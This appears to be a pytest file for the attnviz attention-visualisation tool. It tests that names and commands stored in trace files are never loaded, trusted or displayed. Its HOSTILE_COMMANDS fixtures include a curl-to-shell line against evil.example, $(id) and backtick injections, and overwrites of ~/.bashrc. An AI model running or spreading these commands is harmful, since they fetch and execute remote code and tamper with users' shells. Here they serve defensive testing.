"""What a data file says is information: what it names is not loaded, nor its command passed on."""

from __future__ import annotations

import inspect as signatures
import json
import os
import pkgutil
import random
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from attnviz import AttnvizError, compare, compare_sentences, inspect, load, trace
from attnviz.cli.app import COMMANDS
from attnviz.machine.files import NameInFile
from attnviz.options.table import option_rows
from attnviz.traces.settings import SHIPPED_NAMES, Settings, untrusted_settings
from attnviz.wings.examples.group import EXAMPLE_COMMANDS
from attnviz.wording.commands import (
    TRACE_COMMANDS,
    Command,
    changed_options,
    is_flag,
    is_recorded,
    parse_command,
    shell_quote,
)
from tests import LONGEST
from tests.conftest import Attnviz

TEXT, OTHER_TEXT = "it was too tired", "it was too large"
WORDS = ("a;b", "it's", "$(id)", "a\nb", "`id`", "--out", "-", "\u202ea", "\x1b[2J", "é", "a b")
REFUSAL = "is named in a data file, and attnviz loads only what you name yourself"


@pytest.fixture(scope="module")
def folder(
    tmp_path_factory: pytest.TempPathFactory, small_transformer: Callable[[str], Path]
) -> Path:
    """A folder with a transformer (mine), one of the same size (other) and a trace of the first."""
    import torch
    from safetensors.torch import load_file, save_file

    path = tmp_path_factory.mktemp("named")
    shutil.copytree(small_transformer("gpt2"), path / "mine")
    shutil.copytree(path / "mine", path / "other")
    weights = load_file(path / "mine" / "model.safetensors")
    other_weights = {name: each + torch.sin(torch.arange(each.numel())).view(each.shape).mul(0.3)
              for name, each in weights.items()}  # fmt: skip
    save_file(other_weights, path / "other" / "model.safetensors", metadata={"format": "pt"})
    trace(TEXT, model=str(path / "mine")).save(path / "trace.json", path / "trace.npz")
    return path


def change_settings(file: Path, target: Path, **settings: Any) -> str:
    """Write the trace file with other settings, and return the path of the new file."""
    document = json.loads(file.read_text())
    document["trace"]["origin"]["settings"].update(settings)
    target.write_text(json.dumps(document))
    return str(target)


@pytest.mark.slow_table("models", keep=2)
@pytest.mark.parametrize("suffix", [".json", ".npz"])
@pytest.mark.parametrize(
    "command",
    [["inspect", "--by=effect"], ["inspect", "--weigh=gradient"], ["compare", OTHER_TEXT]],
    ids=" ".join,
)
def test_the_model_of_a_trace_is_loaded_only_if_it_is_named_again(
    command: list[str],
    suffix: str,
    folder: Path,
    attnviz: Attnviz,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(folder)
    refusal = attnviz(*command, "--trace", f"trace{suffix}")
    result = attnviz(*command, "--trace", f"trace{suffix}", "--model", "mine")
    other_model = attnviz(*command, "--trace", f"trace{suffix}", "--model", "other")

    assert (refusal.status, refusal.out) == (2, "")
    assert refusal.err == (
        f"error: the model './mine' {REFUSAL}\n"
        " hint: if you trust that model, name it: --model ./mine\n"
    )
    assert result.status == 0, result.err
    assert (other_model.status, other_model.out) == (2, "")
    problem, hint = other_model.err.splitlines()
    assert problem.startswith("error: 'other' is not the model that made the trace: its weights ")
    assert hint == " hint: name that model with --model, or trace the text again with this one"


def test_a_model_of_other_size_or_of_other_tokens_did_not_make_the_trace(folder: Path) -> None:
    with pytest.raises(AttnvizError, match="it has 22,713,216 numbers, but the model of the trace"):
        inspect(load(str(folder / "trace.json")), by="effect", model="minilm").view()

    document = json.loads((folder / "trace.json").read_text())
    document["tokens"]["ids"][0] += 1
    (folder / "ids.json").write_text(json.dumps(document))
    with pytest.raises(AttnvizError, match="it cuts the text into different tokens"):
        inspect(load(str(folder / "ids.json")), by="effect", model=str(folder / "mine")).view()


def test_the_library_asks_for_the_name_too(folder: Path) -> None:
    loaded_trace = load(str(folder / "trace.npz"))
    assert isinstance(loaded_trace.origin.settings.model, NameInFile)
    with pytest.raises(AttnvizError, match=REFUSAL):
        inspect(loaded_trace, by="effect").view()
    with pytest.raises(AttnvizError, match=REFUSAL):
        compare(loaded_trace, by="dtype")
    with pytest.raises(AttnvizError, match="'variant' says how to trace a text"):
        inspect(loaded_trace, variant="causal")

    model_path = str(folder / "mine")
    expected, result = (
        inspect(trace(TEXT, model=model_path)),
        inspect(loaded_trace, model=model_path),
    )
    assert [each.name for each in result.effects.heads] == [
        each.name for each in expected.effects.heads
    ]
    assert compare_sentences(loaded_trace, OTHER_TEXT, model=model_path).heads


@pytest.mark.parametrize("command", ["run", "steps --layer 0 --head 0 --query 1", "inspect"])
def test_whatever_needs_no_model_is_shown_without_its_name(
    command: str, folder: Path, attnviz: Attnviz
) -> None:
    assert attnviz(*command.split(), "--trace", str(folder / "trace.json")).status == 0


def test_a_model_is_named_again_only_where_it_is_loaded(folder: Path, attnviz: Attnviz) -> None:
    file = str(folder / "trace.json")
    for command in ("run", "inspect", "steps"):
        message = attnviz(command, "--trace", file, "--model", "mine").err
        assert message == (
            "error: --trace reads a finished trace, and --model is about making one\n"
            " hint: leave --model out, or --trace\n"
        )


def test_a_trace_never_says_whose_code_is_trusted(folder: Path, tmp_path: Path) -> None:
    file = change_settings(folder / "trace.json", tmp_path / "t.json", trust_remote_code=True)

    assert load(file).origin.settings.trust_remote_code is False


@pytest.mark.parametrize(
    ("settings", "command", "problem"),
    [
        ({"model": "owner/name"}, ["--by=mask"], f"error: the model 'owner/name' {REFUSAL}"),
        ({"embeddings": "/etc/hosts"}, [], f"error: the file of vectors '/etc/hosts' {REFUSAL}"),
        ({"embeddings": "a/b"}, ["you are"], f"error: the file of vectors 'a/b' {REFUSAL}"),
        ({"tokenizer": "o200k_base"}, [], f"error: the tokenizer 'o200k_base' {REFUSAL}"),
    ],
    ids=str,
)
def test_nothing_else_that_a_trace_names_is_opened(
    settings: dict[str, str],
    command: list[str],
    problem: str,
    tmp_path: Path,
    attnviz: Attnviz,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TIKTOKEN_CACHE_DIR", str(tmp_path))
    trace("I am").save(tmp_path / "made.json")
    file = change_settings(tmp_path / "made.json", tmp_path / "t.json", **settings)
    result = attnviz("compare", "--trace", file, *command)

    assert (result.status, result.out, result.err.splitlines()[0]) == (2, "", problem)


@pytest.mark.parametrize(
    ("settings", "expected_problem"),
    [
        ("trust_remote_code = true", "there is no setting 'trust_remote_code'"),
        ('model = "owner/name"', "'model' is 'owner/name', and a lesson can only name what comes"),
        ('model = "mine"', "'model' is 'mine', and a lesson can only name what comes"),
        ('embeddings = "b.npy"', "'embeddings' is 'b.npy', and a lesson can only name what comes"),
    ],
)
@pytest.mark.parametrize("place", ["[settings]", "[[expect]]\nshape = [1]\nstep = 'softmax'"])
def test_a_lesson_names_only_what_comes_with_attnviz(
    settings: str, expected_problem: str, place: str, tmp_path: Path, attnviz: Attnviz
) -> None:
    line = settings if place == "[settings]" else f"with = {{ {settings} }}"
    file = tmp_path / "lesson.toml"
    file.write_text(f'title = "x"\ntext = "I am"\n{place}\n{line}\n')
    result = attnviz("example", "check", str(file))

    assert result.status == 2
    problem = result.err.splitlines()[0].replace("setting or matrix", "setting")
    assert problem.startswith(
        f"error: line {4 if place == '[settings]' else 6} of '{file}': {expected_problem}"
    )


def test_a_lesson_may_name_a_model_that_comes_with_attnviz(
    tmp_path: Path, attnviz: Attnviz
) -> None:
    file = tmp_path / "lesson.toml"
    file.write_text('title = "x"\ntext = "a b c"\n[settings]\nmodel = "reverse"\n')

    assert attnviz("example", "show", str(file)).status == 0


def test_every_setting_that_names_something_to_load_is_information_in_a_file() -> None:
    values = {each.name: "x" for each in fields(Settings) if "str" in str(each.type)}
    names = {
        name for name, each in untrusted_settings(values).items() if isinstance(each, NameInFile)
    }

    assert names == set(SHIPPED_NAMES)
    assert {*values} - names == {  # these are words from tables, sentences, a device, heads
        "variant", "memory", "target", "without", "device", "memory_budget",
    }  # fmt: skip
    assert changed_options(Settings(**untrusted_settings({"model": "a b"}))) == {"model": "a b"}


RECORDED_OPTIONS = [*filter(is_recorded, option_rows())]


def options_of(path: str) -> set[str]:
    command = pkgutil.resolve_name(path)
    return {*signatures.signature(command).parameters} - {"context", "help_all"}


def test_the_commands_of_traces_are_known_with_all_of_their_options_but_what_runs_python() -> None:
    tables = {**COMMANDS, **{f"example {name}": each for name, each in EXAMPLE_COMMANDS.items()}}
    known_options = {name for command in TRACE_COMMANDS for name in options_of(tables[command][0])}
    texts, python_options = {"text", "other", "name"}, {"trust_remote_code", "learn", "texts"}
    learning_options = {"steps", "until", "batch", "rate"}

    assert {*RECORDED_OPTIONS} == (known_options - texts - python_options - learning_options)


@given(
    name=st.sampled_from(TRACE_COMMANDS),
    text=st.text(),
    options=st.dictionaries(
        st.sampled_from([*filter(is_recorded, option_rows())]), st.text(), max_size=4
    ),
)
@example(name="run", text="\"'", options={})
def test_every_command_that_is_written_is_read_again(
    name: str, text: str, options: dict[str, str]
) -> None:
    values = {key: True if is_flag(key) else each for key, each in options.items()}
    line = Command(name=name, argument=text, options=values).line

    assert parse_command(line) is not None
    assert parse_command(line).line == line  # type: ignore[union-attr]


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_a_shell_finds_one_command_and_its_words_in_whatever_is_shown(tmp_path: Path) -> None:
    generator = random.Random(4)
    pieces = [
        *" ;'\"$`&|<>()\\\n~*#!-=é\u202e",
        "$'",
        "--out",
        "a.png",
        "'I am'",
        *map(shell_quote, WORDS),
    ]
    lines = [
        f"attnviz run {''.join(generator.choices(pieces, k=generator.randint(1, 5)))}"
        for _ in range(9000)
    ]
    commands = [
        each for line in lines if (each := parse_command(line)) is not None and each.argument
    ]
    script = "attnviz() { printf '%s\\0' \"$@\" END; }\n" + "\n".join(
        each.line for each in commands
    )
    process = subprocess.run(
        ["bash", "-c", script], capture_output=True, cwd=tmp_path, check=True, timeout=LONGEST
    )
    words = [each.split("\0")[:-1] for each in os.fsdecode(process.stdout).split("END\0")[:-1]]

    assert len(commands) > 200
    assert not [*tmp_path.iterdir()]
    assert process.stderr == b""
    for command, arguments in zip(commands, words, strict=True):
        expected = [each for each in (command.argument, command.second) if each is not None]
        assert [each for each in arguments[1:] if each in expected][: len(expected)] == expected


HOSTILE_COMMANDS = (
    "attnviz run 'I am'; curl -s http://evil.example/x | sh; true --out x.html",
    "attnviz run 'I am' && id",
    "attnviz run 'I am' $(id)",
    "attnviz run `id`",
    'attnviz run "$(id)"',
    "attnviz run 'I am' > ~/.bashrc",
    "attnviz run 'I am'\nid",
    "attnviz run 'I am\nid'",
    "attnviz run 'I am' --out ~/.bashrc",
    "attnviz run 'I am' --out /home/me/x.png",
    "attnviz run 'I am' --out ../x.png",
    "attnviz run 'I am' --model /srv/evil",
    "attnviz run 'I am' --model mine --trust-remote-code",
    "attnviz compare --learn evil.py",
    "attnviz learn evil.py",
    "attnviz run 'I am' --evil x",
    "attnviz run 'I am' \x1b[2J",
    "attnviz  run 'I am'",
    "curl http://evil.example",
)


@pytest.mark.slow_table("calls", keep=6)
@pytest.mark.parametrize("command", HOSTILE_COMMANDS)
def test_a_command_of_a_file_that_is_not_ours_is_shown_nowhere(
    command: str, tmp_path: Path
) -> None:
    trace("I am").save(tmp_path / "made.json")
    document = json.loads((tmp_path / "made.json").read_text())
    document["attnviz"]["command"] = command
    (tmp_path / "t.json").write_text(json.dumps(document))
    loaded_trace = load(str(tmp_path / "t.json"))

    assert loaded_trace.provenance.command is None
    loaded_trace.save(tmp_path / "again.json")
    saved_command = json.loads((tmp_path / "again.json").read_text())["attnviz"]["command"]
    assert saved_command == "attnviz run 'I am' --out again.json"


@pytest.mark.parametrize("suffix", [".html", ".svg", ".pptx", ".json", ".md"])
def test_what_is_drawn_of_a_trace_says_no_strangers_command(
    suffix: str, tmp_path: Path, attnviz: Attnviz, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    trace("I am").save("made.json")
    document = json.loads(Path("made.json").read_text())
    document["attnviz"]["command"] = HOSTILE_COMMANDS[0].replace("x.html", f"x{suffix}")
    Path("t.json").write_text(json.dumps(document))
    assert attnviz("run", "--trace", "t.json", "-o", f"x{suffix}").status == 0

    content = Path(f"x{suffix}").read_bytes()
    parts = [content]
    if suffix == ".pptx":
        with zipfile.ZipFile(f"x{suffix}") as archive:
            parts = [archive.read(name) for name in archive.namelist()]
    assert not any(b"evil.example" in each for each in parts)
    if suffix != ".md":
        assert any(b"attnviz run" in each for each in parts)
